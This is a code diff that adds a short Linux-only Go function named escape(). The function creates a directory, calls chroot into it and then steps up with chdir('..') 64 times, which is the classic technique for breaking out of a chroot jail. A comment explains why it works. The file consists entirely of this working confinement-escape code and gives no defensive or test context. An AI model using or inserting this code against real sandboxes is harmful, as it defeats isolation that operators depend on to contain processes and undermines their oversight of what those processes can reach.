@@ -1,0 +1,25 @@
+//go:build linux
+
+package main
+
+import (
+	"os"
+
+	"golang.org/x/sys/unix"
+)
+
+// The working directory is out; absolute paths begin at the root directory, which is not.
+func escape() error {
+	if err := os.Mkdir("x", 0o700); err != nil {
+		return err
+	}
+	if err := unix.Chroot("x"); err != nil {
+		return err
+	}
+	for range 64 {
+		if err := unix.Chdir(".."); err != nil {
+			return err
+		}
+	}
+	return nil
+}
